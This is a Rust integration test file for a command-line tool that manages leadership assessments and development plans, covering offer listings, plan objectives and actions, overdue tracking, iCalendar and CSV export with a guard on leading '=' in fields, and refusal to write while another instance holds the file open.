fn a_missing_assessment_says_where_reflect_looked() {
    let home = tempfile::tempdir().unwrap();
    for args in [
        &["summary", "nobody"][..],
        &["export", "nobody"],
        &["nobody"],
    ] {
        let o = reflect_in(home.path(), args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        let said = stderr(&o);
        assert!(
            said.contains("neither a file here nor an assessment in")
                && said.contains("reflect list"),
            "{args:?}: {said}"
        );
    }
}

/// `summary --compare` fits the terminal too: its tables give way to the
/// width, as `list` and `summary` do.
#[test]
fn summary_compare_fits_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let o = Command::new(env!("CARGO_BIN_EXE_reflect"))
        .args(["--home", home.path().to_str().unwrap(), "summary"])
        .arg(&path)
        .arg("--compare")
        .env("COLUMNS", "80")
        .output()
        .unwrap();
    assert_ok(&o);
    let text = stdout(&o);
    let wide: Vec<&str> = text
        .lines()
        .filter(|l| !l.starts_with("compared with") && columns_of(l) > 80)
        .collect();
    assert!(wide.is_empty(), "{wide:#?}");
    assert!(text.contains('…'), "the widest text gave way: {text}");
}

/// `reflect offers`: what serves a theme and stage, officers' offers first
/// and the most specific first, councillors' only when asked, your own
/// catalogue beside the bundled one.
#[test]
fn offers_lists_what_serves_a_theme_and_stage() {
    let home = tempfile::tempdir().unwrap();
    let json = |args: &[&str]| -> serde_json::Value {
        let o = reflect_in(home.path(), args);
        assert_ok(&o);
        serde_json::from_str(&stdout(&o)).unwrap()
    };
    let ids = |v: &serde_json::Value| -> Vec<String> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|o| o["id"].as_str().unwrap().to_owned())
            .collect()
    };
    let place = json(&["offers", "--theme", "sl.place", "--json"]);
    let found = ids(&place);
    assert_eq!(found[0], "tlp", "{found:?}");
    // Named for the theme before coaching, which serves any theme.
    let coaching = found
        .iter()
        .position(|i| i == "lga-solace.executive-coaching")
        .unwrap();
    assert!(
        found
            .iter()
            .position(|i| i == "tlp.leadership-space")
            .unwrap()
            < coaching
    );
    // Not the Chief Executives' programme: sl.place is not its framework's.
    assert!(!found.contains(&"lga-solace.ce-development-programme".to_string()));
    assert!(
        !found.iter().any(|i| i.starts_with("lga.webinar")),
        "councillors' offers"
    );
    assert_eq!(place[0]["mapping"], "inferred");
    assert_eq!(place[0]["as_of"], "first cohort (undated)");
    let with = ids(&json(&[
        "offers",
        "--theme",
        "sl.politics",
        "--councillors",
        "--json",
    ]));
    assert!(
        with.contains(&"lga.webinar.effective-opposition".to_string()),
        "{with:?}"
    );
    // Your own catalogue joins, and a broken one is named and left out.
    std::fs::create_dir_all(home.path().join("offers")).unwrap();
    std::fs::write(
        home.path().join("offers/ours.ron"),
        "(source: \"ours\", offers: [(id: \"ours.set\", title: \"Action learning\", provider: \"us\", \
         kind: ActionLearning, audience: [Officers], serves: [(framework: \"senior-leadership\", \
         themes: [\"sl.place\"], basis: Inferred)], source: \"p2\", as_of: \"2026\", status: \"open\")])",
    )
    .unwrap();
    std::fs::write(home.path().join("offers/broken.ron"), "(oops").unwrap();
    let o = reflect_in(home.path(), &["offers", "--theme", "sl.place"]);
    assert_ok(&o);
    assert!(stdout(&o).contains("ours.set"), "{}", stdout(&o));
    assert!(stdout(&o).contains("ask the provider"));
    assert!(stderr(&o).contains("broken.ron:1:"), "{}", stderr(&o));
}

// ------------------------------------------------------------------ plan

/// A plan made on the command line: an objective agreed with the Leader,
/// an action overdue (due long ago) and one done with evidence.
fn planned(home: &Path) -> PathBuf {
    let file = create(home, "senior-leadership", "Jo Bloggs");
    let path = file.to_str().unwrap();
    let mut a = store::load_assessment(&file).unwrap();
    a.current_mut()
        .add_rater("Cllr Ada Jones", RaterRole::Leader)
        .unwrap();
    store::save_assessment(&file, &a).unwrap();
    for args in [
        &[
            "plan",
            "add",
            path,
            "--objective",
            "Adopt the place strategy",
            "--due",
            "2027-06-30",
            "--agreed-by",
            "leader",
            "--agreed-on",
            "2026-11-25",
            "--measure",
            "Cabinet adopts it",
            "--priority",
            "Thriving places",
        ][..],
        &[
            "plan",
            "add",
            path,
            "--action",
            "Join the Total Leadership Programme",
            "--kind",
            "programme",
            "--develops",
            "sl.place@experience",
            "--offer",
            "tlp",
            "--due",
            "2020-01-31",
            "--objective-id",
            "O1",
        ],
        &[
            "plan",
            "add",
            path,
            "--action",
            "=Read the guide",
            "--due",
            "2099-01-31",
        ],
        &[
            "plan",
            "set",
            path,
            "A2",
            "--status",
            "done",
            "--evidence",
            "Notes shared",
            "--date",
            "2026-11-30",
        ],
    ] {
        assert_ok(&reflect_in(home, args));
    }
    file
}

#[test]
fn plan_add_and_set_write_the_plan_and_plan_shows_it() {
    let dir = tempfile::tempdir().unwrap();
    let file = planned(dir.path());
    let a = store::load_assessment(&file).unwrap();
    assert_eq!(a.schema, reflect::model::plan::PLAN_SCHEMA);
    let o = &a.plan.objectives[0];
    assert_eq!(
        (o.agreed_name.as_str(), o.agreed_on, o.due),
        (
            "Cllr Ada Jones (Leader or mayor)",
            Some(date(2026, 11, 25)),
            Some(date(2027, 6, 30))
        )
    );
    let done = &a.plan.actions[1];
    assert_eq!(done.status, reflect::model::plan::Status::Done);
    assert_eq!(done.evidence, "Notes shared");
    assert_eq!(done.history.last().unwrap().on, date(2026, 11, 30));
    let shown = reflect_in(dir.path(), &["plan", file.to_str().unwrap()]);
    assert_ok(&shown);
    let text = stdout(&shown);
    assert!(text.contains("1 objective, 2 actions, 1 overdue"), "{text}");
    assert!(text.contains("2020-01-31 (overdue)"), "{text}");
    assert!(
        text.contains("Cllr Ada Jones (Leader or mayor) on 2026-11-25"),
        "{text}"
    );
    let json = reflect_in(dir.path(), &["plan", file.to_str().unwrap(), "--json"]);
    let value: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
    assert_eq!(value["overdue"], 1);
    assert_eq!(value["actions"][0]["develops"][0]["theme"], "sl.place");
    assert_eq!(value["actions"][1]["status"], "done");
}

#[test]
fn plan_refuses_what_it_cannot_do_and_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let file = create(dir.path(), "senior-leadership", "Jo Bloggs");
    let path = file.to_str().unwrap();
    for (args, said) in [
        (
            &[
                "plan",
                "add",
                path,
                "--action",
                "x",
                "--develops",
                "sl.nope",
            ][..],
            "\"sl.nope\" is not a standard or theme id",
        ),
        (
            &[
                "plan",
                "add",
                path,
                "--objective",
                "x",
                "--agreed-by",
                "leader",
            ],
            "rates in no review here",
        ),
        (
            &["plan", "add", path, "--action", "x", "--kind", "golf"],
            "is not one of",
        ),
        (
            &["plan", "set", path, "A1", "--status", "done"],
            "the plan has no A1",
        ),
        (
            &["plan", "set", path, "Z1", "--status", "done"],
            "is not an item id",
        ),
        (
            &["plan", "set", path, "A1", "--status", "finished"],
            "is not a status",
        ),
    ] {
        let o = reflect_in(dir.path(), args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert!(stderr(&o).contains(said), "{args:?}: {}", stderr(&o));
    }
    // Nothing was written.
    assert!(store::load_assessment(&file).unwrap().plan.is_empty());
}

#[test]
fn plan_as_icalendar_reads_back_with_an_icalendar_parser() {
    use icalendar::{Calendar, Component};
    let dir = tempfile::tempdir().unwrap();
    let file = planned(dir.path());
    let out = dir.path().join("plan.ics");
    let o = reflect_in(
        dir.path(),
        &[
            "plan",
            file.to_str().unwrap(),
            "--format",
            "ics",
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_ok(&o);
    let text = std::fs::read_to_string(&out).unwrap();
    let calendar: Calendar = text.parse().expect("an iCalendar file");
    let events: Vec<_> = calendar.events().collect();
    assert_eq!(events.len(), 3, "every dated item");
    let summaries: Vec<&str> = events.iter().map(|e| e.get_summary().unwrap()).collect();
    assert!(
        summaries.contains(&"O1 Adopt the place strategy (planned)"),
        "{summaries:?}"
    );
    assert!(summaries.contains(&"A1 Join the Total Leadership Programme (planned, overdue)"));
    let o1 = events
        .iter()
        .find(|e| e.get_uid() == Some("reflect-jo-bloggs-O1"))
        .unwrap();
    assert_eq!(
        o1.get_start().unwrap(),
        icalendar::DatePerhapsTime::Date(chrono::NaiveDate::from_ymd_opt(2027, 6, 30).unwrap())
    );
    assert!(
        o1.get_description()
            .unwrap()
            .contains("Measure of success: Cabinet adopts it")
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
        0o600
    );
}

#[test]
fn export_what_plan_is_a_csv_a_spreadsheet_reads() {
    let dir = tempfile::tempdir().unwrap();
    let file = planned(dir.path());
    let o = reflect_in(
        dir.path(),
        &["export", file.to_str().unwrap(), "--what", "plan"],
    );
    assert_ok(&o);
    let rows = parse_csv(&stdout(&o));
    assert_eq!(rows[0][..3], ["id", "type", "title"]);
    assert_eq!(rows.len(), 4, "a header, one objective, two actions");
    let col = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    assert_eq!(rows[2][col("overdue")], "yes");
    assert_eq!(
        rows[3][col("title")],
        "'=Read the guide",
        "a formula is guarded"
    );
    assert_eq!(
        rows[1][col("agreed_with")],
        "Cllr Ada Jones (Leader or mayor)"
    );
}

#[test]
fn list_says_how_many_plan_items_are_overdue() {
    let dir = tempfile::tempdir().unwrap();
    planned(dir.path());
    let o = reflect_in(dir.path(), &["list", "--json"]);
    let value: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(value[0]["overdue"], 1);
    let text = stdout(&reflect_in(dir.path(), &["list"]));
    assert!(text.contains("OVERDUE"), "{text}");
}

#[test]
fn plan_changes_nothing_while_the_app_has_the_file_open() {
    let dir = tempfile::tempdir().unwrap();
    let file = create(dir.path(), "senior-leadership", "Jo Bloggs");
    // Another reflect holds the file: this test process, through the store.
    let open = store::open(&Home::at(dir.path()), &file).unwrap();
    assert!(open.read_only.is_none());
    let o = reflect_in(
        dir.path(),
        &[
            "plan",
            "add",
            file.to_str().unwrap(),
            "--action",
            "Coaching",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("cannot add to the plan: another reflect has it open"),
        "{}",
        stderr(&o)
    );
    drop(open);
    assert!(store::load_assessment(&file).unwrap().plan.is_empty());
}
